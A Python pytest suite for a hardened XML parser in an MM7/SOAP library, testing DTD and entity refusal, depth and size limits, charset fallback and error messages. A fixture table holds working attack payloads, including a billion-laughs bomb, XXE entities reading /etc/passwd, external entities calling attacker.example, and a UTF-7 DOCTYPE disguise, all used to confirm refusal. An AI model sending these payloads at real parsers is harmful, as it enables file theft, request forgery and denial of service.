"""Hardened XML parsing: DTDs and entities refused unexpanded, limits, charset fallback, errors."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from mm7.core.errors import LimitExceededError, ParseError, UnsafeXMLError
from mm7.core.leniency import Leniency
from mm7.core.limits import Limits
from mm7.core.xmlsafe import hardened_parser, parse_schema_document, parse_xml

ENV_NS = "http://schemas.xmlsoap.org/soap/envelope/"
MM7_NS = "http://www.3gpp.org/ftp/Specs/archive/23_series/23.140/schema/REL-6-MM7-1-4"

ENVELOPE = f"""<?xml version="1.0" encoding="UTF-8"?>
<!-- sent by a test -->
<?some-pi data?>
<env:Envelope xmlns:env="{ENV_NS}">
  <env:Header>
    <mm7:TransactionID xmlns:mm7="{MM7_NS}" env:mustUnderstand="1">tx-1</mm7:TransactionID>
  </env:Header>
  <env:Body>
    <DeliverReq xmlns="{MM7_NS}">
      <MM7Version>6.8.0</MM7Version>
      <!-- a comment in the body -->
      <Subject>SUBJECT</Subject>
    </DeliverReq>
  </env:Body>
</env:Envelope>
"""

REFUSED_DTD = "XML declares a DTD (<!DOCTYPE ...>); documents with DTDs or entities are refused"
REFUSED_ENTITY = (
    "XML declares an entity (<!ENTITY ...>); documents with DTDs or entities are refused"
)


def envelope(subject: str = "Hello", declaration: str | None = None) -> str:
    text = ENVELOPE.replace("SUBJECT", subject)
    if declaration is not None:
        text = text.replace('<?xml version="1.0" encoding="UTF-8"?>', declaration)
    return text


def subject_of(root: etree._Element) -> str | None:
    return root.findtext(f".//{{{MM7_NS}}}Subject")


@pytest.fixture
def libxml2_never_called(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if anything reaches libxml2's parser: refusals must come before it."""

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("libxml2 was handed a document that should have been refused")

    monkeypatch.setattr(etree, "fromstring", refuse)  # the lxml module xmlsafe uses


# --------------------------------------------------------------------------------------------------
# ordinary documents
# --------------------------------------------------------------------------------------------------


def test_parses_envelope_without_leniency() -> None:
    seen: list[Leniency] = []
    root = parse_xml(envelope().encode("utf-8"), mime_charset="utf-8", leniencies=seen)
    assert root.tag == f"{{{ENV_NS}}}Envelope"
    assert subject_of(root) == "Hello"
    assert root.findtext(f".//{{{MM7_NS}}}TransactionID") == "tx-1"
    assert seen == []


def test_comments_and_processing_instructions_are_removed() -> None:
    root = parse_xml(envelope().encode("utf-8"))
    tree = root.getroottree()
    assert not [node for node in root.iter() if not isinstance(node.tag, str)]
    assert root.getprevious() is None
    assert etree.tostring(tree).count(b"<!--") == 0


def test_doctype_text_inside_cdata_and_comments_is_not_a_declaration() -> None:
    data = b"<!-- <!DOCTYPE x> <!ENTITY y 'z'> --><a><![CDATA[<!DOCTYPE x>]]><b>&lt;!ENTITY</b></a>"
    root = parse_xml(data)
    assert root.text == "<!DOCTYPE x>"
    assert root[0].text == "<!ENTITY"


def test_non_ascii_utf8_without_declaration() -> None:
    seen: list[Leniency] = []
    root = parse_xml(envelope("한국어 é", declaration="").encode("utf-8"), leniencies=seen)
    assert subject_of(root) == "한국어 é"
    assert seen == []


def test_utf8_bom_is_honoured() -> None:
    seen: list[Leniency] = []
    root = parse_xml(b"\xef\xbb\xbf" + envelope("é").encode("utf-8"), leniencies=seen)
    assert subject_of(root) == "é"
    assert seen == []


def test_real_utf16_with_bom_is_native() -> None:
    seen: list[Leniency] = []
    text = envelope("한국", declaration='<?xml version="1.0" encoding="UTF-16"?>')
    root = parse_xml(text.encode("utf-16"), mime_charset="utf-16", leniencies=seen)
    assert subject_of(root) == "한국"
    assert seen == []


def test_real_utf16le_without_bom_is_native() -> None:
    seen: list[Leniency] = []
    text = envelope("한국", declaration='<?xml version="1.0" encoding="UTF-16LE"?>')
    root = parse_xml(text.encode("utf-16-le"), leniencies=seen)
    assert subject_of(root) == "한국"
    assert seen == []


def test_declared_euc_kr_is_native() -> None:
    seen: list[Leniency] = []
    text = envelope("한국어 제목", declaration='<?xml version="1.0" encoding="euc-kr"?>')
    root = parse_xml(text.encode("euc-kr"), mime_charset="euc-kr", leniencies=seen)
    assert subject_of(root) == "한국어 제목"
    assert seen == []


# --------------------------------------------------------------------------------------------------
# charset fallback
# --------------------------------------------------------------------------------------------------


def test_utf16_declared_but_utf8_bytes_falls_back() -> None:
    # The Vibes case: encoding="utf-16" in the declaration of a utf-8 part.
    seen: list[Leniency] = []
    text = envelope("Grüße 한국", declaration='<?xml version="1.0" encoding="utf-16"?>')
    root = parse_xml(text.encode("utf-8"), mime_charset="utf-8", leniencies=seen)
    assert subject_of(root) == "Grüße 한국"
    assert seen == [Leniency.CHARSET_FALLBACK]


def test_utf16_declared_but_utf8_bytes_without_mime_charset() -> None:
    seen: list[Leniency] = []
    text = envelope("Grüße", declaration='<?xml version="1.0" encoding="utf-16"?>')
    root = parse_xml(text.encode("utf-8"), leniencies=seen)
    assert subject_of(root) == "Grüße"
    assert seen == [Leniency.CHARSET_FALLBACK]


def test_euc_kr_without_declaration_uses_mime_charset() -> None:
    seen: list[Leniency] = []
    data = envelope("한국어 제목입니다", declaration="").encode("euc-kr")
    root = parse_xml(data, mime_charset="euc-kr", leniencies=seen)
    assert subject_of(root) == "한국어 제목입니다"
    assert seen == [Leniency.CHARSET_FALLBACK]


@pytest.mark.parametrize("mime", ["ks_c_5601-1987", "ksc5601", "KSC5601", '"euc-kr"'])
def test_korean_mime_labels_decode_uhc_hangul(mime: str) -> None:
    # "똠" needs cp949; libxml2 reads ks_c_5601-1987 as narrower euc-kr and lacks ksc5601.
    seen: list[Leniency] = []
    text = envelope("똠방각하", declaration='<?xml version="1.0" encoding="ks_c_5601-1987"?>')
    root = parse_xml(text.encode("cp949"), mime_charset=mime, leniencies=seen)
    assert subject_of(root) == "똠방각하"
    assert seen == [Leniency.CHARSET_FALLBACK]


def test_declared_label_libxml2_lacks_is_read_without_mime_charset() -> None:
    seen: list[Leniency] = []
    text = envelope("한국", declaration='<?xml version="1.0" encoding="ksc5601"?>')
    root = parse_xml(text.encode("cp949"), leniencies=seen)
    assert subject_of(root) == "한국"
    assert seen == [Leniency.CHARSET_FALLBACK]


def test_latin1_without_declaration_or_mime_charset_ends_at_latin1() -> None:
    seen: list[Leniency] = []
    root = parse_xml(envelope("café", declaration="").encode("iso-8859-1"), leniencies=seen)
    assert subject_of(root) == "café"
    assert seen == [Leniency.CHARSET_FALLBACK]


def test_unknown_declared_encoding_falls_back() -> None:
    seen: list[Leniency] = []
    text = envelope("ok", declaration='<?xml version="1.0" encoding="x-bogus"?>')
    root = parse_xml(text.encode("utf-8"), mime_charset="utf-8", leniencies=seen)
    assert subject_of(root) == "ok"
    assert seen == [Leniency.CHARSET_FALLBACK]


def test_fallback_without_leniency_list() -> None:
    root = parse_xml(envelope("é", declaration="").encode("iso-8859-1"))
    assert subject_of(root) == "é"


# --------------------------------------------------------------------------------------------------
# DTDs and entities: refused, nothing expanded
# --------------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz a="&lol9;">&lol9;</lolz>
"""

HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "xxe-file": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xxe-http": b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/x">]><x>&e;</x>',
    "external-dtd": b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
    "external-dtd-file": b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
    "parameter-entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><x/>',
    "bare-doctype": b"<!DOCTYPE x><x/>",
    "after-declaration-comment-pi": (
        b'<?xml version="1.0"?>\n<!-- hi -->\n<?pi x?>\n<!DOCTYPE x [<!ENTITY e "y">]><x>&e;</x>'
    ),
    "after-utf8-bom": b'\xef\xbb\xbf<!DOCTYPE x [<!ENTITY e "y">]><x>&e;</x>',
    "in-utf16-with-bom": '<!DOCTYPE x [<!ENTITY e "y">]><x>&e;</x>'.encode("utf-16"),
    "in-utf16le-no-bom": '<!DOCTYPE x [<!ENTITY e "y">]><x>&e;</x>'.encode("utf-16-le"),
    "in-utf16be-no-bom": '<!DOCTYPE x [<!ENTITY e "y">]><x>&e;</x>'.encode("utf-16-be"),
    "in-utf32": '<!DOCTYPE x [<!ENTITY e "y">]><x>&e;</x>'.encode("utf-32"),
    "envelope-with-entity": envelope("&lol;")
    .replace("<!-- sent by a test -->", '<!DOCTYPE env:Envelope [<!ENTITY lol "lol">]>')
    .encode("utf-8"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_dtd_refused_before_libxml2_sees_it(name: str, libxml2_never_called: None) -> None:
    with pytest.raises(UnsafeXMLError) as info:
        parse_xml(HOSTILE[name])
    assert str(info.value) == f"SOAP part: {REFUSED_DTD}"
    assert info.value.status_code == 2007


def test_bare_entity_declaration_refused(libxml2_never_called: None) -> None:
    with pytest.raises(UnsafeXMLError) as info:
        parse_xml(b'<!ENTITY e "x"><a/>', where="content part")
    assert str(info.value) == f"content part: {REFUSED_ENTITY}"


def test_dtd_in_fallback_charset_refused(libxml2_never_called: None) -> None:
    data = '<!DOCTYPE a [<!ENTITY e "한">]><a>&e;</a>'.encode("euc-kr")
    with pytest.raises(UnsafeXMLError, match="declares a DTD"):
        parse_xml(data, mime_charset="euc-kr")


def test_dtd_behind_a_mime_charset_trick_refused(libxml2_never_called: None) -> None:
    # UTF-7 hides "<!DOCTYPE" from a byte scan; the decoded text is walked again before parsing.
    data = b"+ADw-!DOCTYPE a +AFs-+ADw-!ENTITY e +ACI-x+ACI-+AD4-+AF0-+AD4-+ADw-a/+AD4-"
    with pytest.raises(UnsafeXMLError, match="declares a DTD"):
        parse_xml(data, mime_charset="utf-7")


def test_declared_utf7_is_never_handed_to_libxml2() -> None:
    data = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a+AD4-+ADw-a/+AD4-'
    with pytest.raises(ParseError, match="malformed XML at line 1") as info:
        parse_xml(data)
    assert not isinstance(info.value, UnsafeXMLError)


def test_billion_laughs_refused_quickly() -> None:
    import time

    start = time.perf_counter()
    with pytest.raises(UnsafeXMLError):
        parse_xml(BILLION_LAUGHS)
    assert time.perf_counter() - start < 0.05


def test_hardened_parser_itself_does_not_expand_entities_in_content() -> None:
    # Defence in depth for callers of hardened_parser(): libxml2 keeps &e; as a reference node.
    root = etree.fromstring(b'<!DOCTYPE a [<!ENTITY e "expanded">]><a>&e;</a>', hardened_parser())
    assert root.text is None
    assert b"expanded" not in etree.tostring(root)


def test_hardened_parser_does_not_read_files() -> None:
    data = b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    root = etree.fromstring(data, hardened_parser())
    assert b"root:" not in etree.tostring(root)


def test_hardened_parser_is_one_per_thread() -> None:
    assert hardened_parser() is hardened_parser()
    other: list[etree.XMLParser] = []
    thread = threading.Thread(target=lambda: other.append(hardened_parser()))
    thread.start()
    thread.join()
    assert other and other[0] is not hardened_parser()


def test_parse_xml_from_many_threads() -> None:
    data = envelope("threads").encode("utf-8")
    errors: list[BaseException] = []

    def work() -> None:
        try:
            for _ in range(200):
                assert subject_of(parse_xml(data)) == "threads"
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []


# --------------------------------------------------------------------------------------------------
# limits
# --------------------------------------------------------------------------------------------------


def test_size_limit() -> None:
    data = envelope().encode("utf-8")
    limits = Limits(max_xml_bytes=len(data) - 1)
    with pytest.raises(LimitExceededError) as info:
        parse_xml(data, limits=limits)
    assert str(info.value) == (
        f"SOAP part: XML is {len(data)} bytes, over the limit of {len(data) - 1}"
    )
    assert parse_xml(data, limits=Limits(max_xml_bytes=len(data))) is not None


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"x" + b"</a>" * depth


def test_depth_limit_exact_boundary() -> None:
    limits = Limits(max_xml_depth=5)
    root = parse_xml(nested(5), limits=limits)
    assert root.xpath("string(/a/a/a/a/a)") == "x"
    with pytest.raises(LimitExceededError) as info:
        parse_xml(nested(6), limits=limits)
    assert str(info.value) == "SOAP part: XML nesting deeper than 5 elements"


def test_default_depth_limit_is_64() -> None:
    assert parse_xml(nested(64)).tag == "a"
    with pytest.raises(LimitExceededError, match="deeper than 64 elements"):
        parse_xml(nested(65))


def test_depth_beyond_libxml2_limit_is_a_limit_error() -> None:
    with pytest.raises(LimitExceededError) as info:
        parse_xml(nested(5000))
    assert str(info.value).startswith("SOAP part: XML nesting deeper than 64 elements (libxml2: ")


def test_depth_limit_counts_only_elements() -> None:
    # A wide document within the depth limit is fine.
    wide = b"<a>" + b"<b><c/></b>" * 2000 + b"</a>"
    assert len(parse_xml(wide, limits=Limits(max_xml_depth=3))) == 2000


def test_depth_checked_after_charset_fallback() -> None:
    data = b"<a>" * 10 + "é".encode("iso-8859-1") + b"</a>" * 10
    with pytest.raises(LimitExceededError):
        parse_xml(data, limits=Limits(max_xml_depth=9))


@pytest.mark.parametrize(
    "extra",
    [
        b"<![CDATA[</</</</</</</</</</]]>",  # "</" that ends no element
        b"<!-- </</</</</</</</</</ -->",
        b"<?pi </</</</</</</</</</?>",
    ],
)
def test_depth_limit_holds_whatever_else_holds_end_tag_bytes(extra: bytes) -> None:
    # A document with few elements skips the walk (parse_xml counts its "<" bytes): markup that
    # looks like end tags must not let a deeper one through.
    data = b"<a>" * 6 + extra + b"</a>" * 6
    with pytest.raises(LimitExceededError, match="deeper than 5 elements"):
        parse_xml(data, limits=Limits(max_xml_depth=5))
    assert parse_xml(data, limits=Limits(max_xml_depth=6)).tag == "a"


@pytest.mark.parametrize("codec", ["utf-16", "utf-32", "utf-8-sig", "iso-8859-1"])
def test_depth_limit_holds_in_every_encoding(codec: str) -> None:
    # U+2F00, a name character, is the bytes 00 2F in UTF-16-LE: byte counts would mislead
    name = "\u00e9" if codec == "iso-8859-1" else "\u2f00"
    declaration = f'<?xml version="1.0" encoding="{codec}"?>' if codec == "iso-8859-1" else ""
    data = (declaration + f"<{name}>" * 6 + "x" + f"</{name}>" * 6).encode(codec)
    with pytest.raises(LimitExceededError, match="deeper than 5 elements"):
        parse_xml(data, limits=Limits(max_xml_depth=5))
    assert parse_xml(data, limits=Limits(max_xml_depth=6)).tag == name


# --------------------------------------------------------------------------------------------------
# syntax errors
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<a><b></a>", "malformed XML at line 1, column 11: Opening and ending tag mismatch: b "),
        (b"<a>\n<b x=1/></a>", "malformed XML at line 2, column 6: AttValue: \" or ' expected"),
        (b"", "malformed XML at line 1, column 1: Document is empty"),
        (
            b"<a/>junk",
            "malformed XML at line 1, column 5: Extra content at the end of the document",
        ),
        (b"<a>&nbsp;</a>", "malformed XML at line 1, column 10: Entity 'nbsp' not defined"),
        (b'<a x="1" x="2"/>', "malformed XML at line 1, column 15: Attribute x redefined"),
        (b"<a>\x00</a>", "malformed XML at line 1, column 4: Invalid character: Char 0x0 out of"),
        (
            b'<a/>\n<?xml version="1.0"?>',
            "malformed XML at line 2, column 6: XML declaration allowed only at the start",
        ),
        (b"junk<a/>", "malformed XML at line 1, column 1: Start tag expected, '<' not found"),
    ],
)
def test_syntax_errors(data: bytes, message: str) -> None:
    with pytest.raises(ParseError) as info:
        parse_xml(data, where="SOAP part")
    assert type(info.value) is ParseError
    assert str(info.value).startswith(f"SOAP part: {message}")
    assert info.value.where == "SOAP part"
    assert info.value.status_code == 2007


def test_syntax_error_after_charset_fallback_reports_the_real_error() -> None:
    # Not UTF-8 and broken: the error is the syntax error, not "Input is not proper UTF-8".
    data = "<a><b>한국</a>".encode("euc-kr")
    with pytest.raises(ParseError) as info:
        parse_xml(data, mime_charset="euc-kr", where="SOAP part")
    assert "Opening and ending tag mismatch" in str(info.value)


def test_syntax_error_where_names_the_part() -> None:
    with pytest.raises(ParseError) as info:
        parse_xml(b"<a>", where="part 2 (<soap-start>)")
    assert str(info.value).startswith("part 2 (<soap-start>): malformed XML at line 1, column 4")


_MUTATIONS = st.lists(
    st.tuples(st.integers(0, len(ENVELOPE) + 10), st.binary(min_size=0, max_size=4)),
    min_size=1,
    max_size=6,
)


@settings(max_examples=300, deadline=None)
@given(_MUTATIONS, st.sampled_from([None, "utf-8", "euc-kr", "utf-16", "x-nope", "utf-7"]))
def test_only_parse_errors_escape_for_mutated_envelopes(
    edits: list[tuple[int, bytes]], mime: str | None
) -> None:
    data = bytearray(envelope().encode("utf-8"))
    for position, chunk in edits:
        data[position : position + len(chunk)] = chunk
    try:
        root = parse_xml(bytes(data), mime_charset=mime)
    except ParseError as exc:
        assert exc.status_code == 2007
    else:
        assert isinstance(root.tag, str)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200), st.sampled_from([None, "utf-8", "cp949", "utf-16"]))
def test_only_parse_errors_escape_for_random_bytes(data: bytes, mime: str | None) -> None:
    try:
        root = parse_xml(data, mime_charset=mime)
    except ParseError as exc:
        assert exc.status_code == 2007
    else:
        assert isinstance(root.tag, str)


# --------------------------------------------------------------------------------------------------
# schema documents
# --------------------------------------------------------------------------------------------------

XSD = """<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:t"
           xmlns:t="urn:t" elementFormDefault="qualified">
  <xs:include schemaLocation="types.xsd"/>
  <xs:element name="root" type="t:rootType"/>
</xs:schema>
"""

TYPES_XSD = """<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:t"
           xmlns:t="urn:t" elementFormDefault="qualified">
  <xs:complexType name="rootType">
    <xs:sequence><xs:element name="flag" type="xs:boolean"/></xs:sequence>
  </xs:complexType>
</xs:schema>
"""


def test_parse_schema_document_reads_local_includes(tmp_path: Path) -> None:
    (tmp_path / "main.xsd").write_text(XSD)
    (tmp_path / "types.xsd").write_text(TYPES_XSD)
    schema = etree.XMLSchema(parse_schema_document(tmp_path / "main.xsd"))
    good = parse_xml(b'<root xmlns="urn:t"><flag>true</flag></root>')
    bad = parse_xml(b'<root xmlns="urn:t"><flag>True</flag></root>')
    assert schema.validate(good)
    assert not schema.validate(bad)


def test_parse_schema_document_accepts_str_path(tmp_path: Path) -> None:
    (tmp_path / "types.xsd").write_text(TYPES_XSD)
    tree = parse_schema_document(str(tmp_path / "types.xsd"))
    assert tree.getroot().tag == "{http://www.w3.org/2001/XMLSchema}schema"


def test_parse_schema_document_errors(tmp_path: Path) -> None:
    broken = tmp_path / "broken.xsd"
    broken.write_text("<xs:schema")
    with pytest.raises(ParseError) as info:
        parse_schema_document(broken)
    assert str(info.value).startswith(f"{broken}: malformed XML at line 1")
    with pytest.raises(OSError):
        parse_schema_document(tmp_path / "missing.xsd")


def test_blank_lines_before_the_xml_declaration_are_a_named_leniency() -> None:
    from mm7.core.codec import decode

    body = (
        b'\r\n\r\n  <?xml version="1.0"?>'
        b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>'
        b'<m:CancelRsp xmlns:m="http://www.3gpp.org/ftp/Specs/archive/23_series/23.140/schema/'
        b'REL-6-MM7-1-4"><m:MM7Version>6.8.0</m:MM7Version><m:Status>'
        b"<m:StatusCode>1000</m:StatusCode><m:StatusText>ok</m:StatusText></m:Status>"
        b"</m:CancelRsp></e:Body></e:Envelope>"
    )
    decoded = decode(body, "text/xml")
    assert decoded.message.OPERATION == "CancelRsp"
    assert "xml-leading-whitespace" in decoded.leniencies
